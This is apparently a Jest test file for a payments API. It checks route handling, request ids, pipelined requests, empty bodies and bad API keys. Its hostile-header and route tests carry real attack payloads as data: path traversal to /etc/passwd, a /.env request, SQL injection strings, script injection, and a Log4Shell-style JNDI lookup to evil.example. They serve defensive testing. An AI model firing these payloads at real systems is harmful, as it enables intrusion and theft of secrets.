import { describe, expect, it } from '@jest/globals';
import { connect } from 'node:net';
import { text } from 'node:stream/consumers';
import { api } from '../../support/api.js';
import { aUser, done, newKey, paymentBody } from '../../support/builders.js';
import { expectAnswer, expectSuccess, fieldsOf } from '../../support/contract.js';
import { BASE_URL } from '../../support/environment.js';
import { expectNothingMoved } from '../../support/money.js';

describe('what is no route', () => {
  it.each([
    ['GET', '/'],
    ['GET', '/nowhere'],
    ['PUT', '/users'],
    ['GET', '/users/1/accounts'],
    ['GET', '/accounts/1'],
    ['POST', '/user'],
    ['POST', '/users/'],
    ['PUT', '/payments'],
    ['DELETE', '/payments/1'],
    ['PATCH', '/accounts/savings'],
    ['POST', '/accounts/savings/deposit'],
    ['GET', '/.env'],
    ['GET', '/..%2f..%2fetc%2fpasswd'],
    ['GET', '/users;id=1'],
  ] as const)('%s %s is NotFound', async (method, path) => {
    const received = await api.send(method, path, method === 'GET' ? undefined : {});
    expectAnswer(received, 'NotFound');
    expect(received.detail).toBeUndefined();
  });

  it.each(['/users/%E0%A4%A', '/payments/%', '/%'])('%s, which is no URL, is refused', async (path) => {
    expectAnswer(await api.send('GET', path), 'InvalidRequest');
  });
});

describe('the id of a request', () => {
  const idOf = async (headers: Record<string, string>) =>
    (await api.send('GET', '/health/live', undefined, { headers })).headers['x-request-id'];

  it('is echoed', async () => {
    for (const id of ['a', 'order-4711/attempt:2', 'x'.repeat(128), `'";<script>--`]) {
      expect(await idOf({ 'X-Request-Id': id })).toBe(id);
    }
  });

  it('is made, a new one each time, where there is none or a bad one', async () => {
    const ids = [await idOf({})];
    for (const bad of ['', 'a b', 'x'.repeat(5_000), 'caf\u00e9', '\u00ff\u00fe', 'a\tb']) {
      ids.push(await idOf({ 'X-Request-Id': bad }));
      expect(ids.at(-1)).not.toBe(bad);
    }
    expect(new Set(ids).size).toBe(7);
    for (const id of ids) expect(id).toMatch(/^[!-~]{8,128}$/);
  });

  it('is on errors too', async () => {
    const headers = { 'X-Request-Id': 'trace-me' };
    for (const [path, body] of [
      ['/nowhere'],
      ['/users/%'],
      ['/users/0'],
      ['/payments', '{'],
      ['/payments', 'x'.repeat(10 ** 6)],
    ]) {
      const received = await api.send(body ? 'POST' : 'GET', path as string, body, { headers });
      expect([path, received.status >= 400, received.headers['x-request-id']]).toEqual([path, true, 'trace-me']);
    }
  });
});

describe('hostile headers', () => {
  it.each([
    ['Accept', 'image/png'],
    ['Accept-Encoding', 'gzip;q=banana, *;q=-1'],
    ['Accept-Language', `${'en,'.repeat(500)}`],
    ['X-Forwarded-For', "'; DROP TABLE users;--, ::1, 127.0.0.1"],
    ['X-HTTP-Method-Override', 'DELETE'],
    ['Origin', 'http://evil.example'],
    ['Cookie', `session=${'x'.repeat(4_000)}`],
    ['Range', 'bytes=0-0,1-1,2-2'],
    ['If-None-Match', '*'],
    ['User-Agent', '${jndi:ldap://evil.example/a}'],
  ])('%s: %s changes nothing', async (name, value) => {
    const { userId } = await aUser();
    const received = await api.send('POST', '/payments', paymentBody(userId), {
      key: newKey(),
      headers: { [name]: value },
    });
    expectSuccess(received, 201);
  });

  it('of 30 KB are refused', async () => {
    const received = await api.send('GET', '/health/live', undefined, { headers: { 'X-Long': 'x'.repeat(30_000) } });
    expect([received.status, received.code]).toEqual([431, 'InvalidRequest']);
    expect(fieldsOf(received)).toEqual(['headers']);
  });
});

describe('payments that are sent one behind the other', () => {
  const KEEP = { 'Content-Type': 'application/json', Host: 'x' };

  /** What comes back on one connection until it is closed. */
  async function exchange(
    sent: string,
  ): Promise<{ status: number; detail: { paymentId: number; errors?: object[] } }[]> {
    const { hostname, port } = new URL(BASE_URL);
    const socket = connect(Number(port), hostname);
    socket.write(sent);
    const answers = (await text(socket)).split(/(?=HTTP\/1\.1 \d{3} )/);
    return answers.map((answer) => ({
      status: Number(answer.split(' ')[1]),
      ...(JSON.parse(answer.slice(answer.indexOf('\r\n\r\n'))) as { detail: { paymentId: number } }),
    }));
  }

  const payment = (userId: number) => {
    const body = JSON.stringify(paymentBody(userId, { totalPayAmount: 1_000 }));
    const headers = { ...KEEP, 'Idempotency-Key': newKey(), 'Content-Length': Buffer.byteLength(body) };
    const lines = Object.entries(headers).map(([name, value]) => `${name}: ${value}\r\n`);
    return `POST /payments HTTP/1.1\r\n${lines.join('')}\r\n${body}`;
  };

  it.each([
    ['bytes that are no HTTP', 5, 'GARBAGE\r\n\r\n'],
    ['stray bytes behind the body', 1, '}}'],
  ])('are answered for what they are, and only then %s', async (_what, count, stray) => {
    const { userId, accountId } = await aUser({ charged: 10_000 });
    const answers = await exchange(Array.from({ length: count }, () => payment(userId)).join('') + stray);
    expect(answers.map(({ status }) => status)).toEqual([...new Array<number>(count).fill(201), 400]);
    const { items } = (await done(api.entries(accountId))).detail;
    const paid = items.filter(({ type }) => type === 'PAYMENT').map(({ paymentId }) => paymentId);
    expect(paid.sort()).toEqual(
      answers
        .slice(0, count)
        .map(({ detail }) => detail.paymentId)
        .sort(),
    );
  });
});

describe('a POST that needs no body', () => {
  it.each(['application/x-www-form-urlencoded', 'application/json', 'nonsense'])(
    'takes an empty one of %s',
    async (type) => {
      const partner = (await done(api.send<{ partnerId: number }>('POST', '/partners', { name: '길동상회' }))).detail;
      const endpoints = `/partners/${partner.partnerId}/webhooks`;
      const { detail } = await done(
        api.send<{ endpointId: number }>('POST', endpoints, { url: 'http://127.0.0.1:9/' }),
      );
      const rotate = `${endpoints}/${detail.endpointId}/rotate-secret`;
      for (const headers of [{ 'content-type': type }, { 'content-type': type, 'transfer-encoding': 'chunked' }]) {
        expectSuccess(await api.send('POST', rotate, '', { headers }), 200);
      }
      expectAnswer(await api.send('POST', rotate, 'a=1', { headers: { 'content-type': 'text/plain' } }), 'WrongType');
    },
  );
});

describe('a wrong API key', () => {
  it.each(['Bearer nonsense', 'Bearer ', 'Basic dXNlcjpwYXNz', 'Bearer \u00ff\u00fe', "Bearer ' OR 1=1--"])(
    '(%s) is Unauthorized before anything else is looked at',
    async (authorization) => {
      const user = await aUser();
      const headers = { Authorization: authorization };
      await expectNothingMoved([user], async () => {
        for (const body of [paymentBody(user.userId), {}]) {
          expectAnswer(await api.send('POST', '/payments', body, { key: newKey(), headers }), 'Unauthorized');
        }
        expectAnswer(await api.send('GET', `/users/${user.userId}`, undefined, { headers }), 'Unauthorized');
      });
    },
  );
});
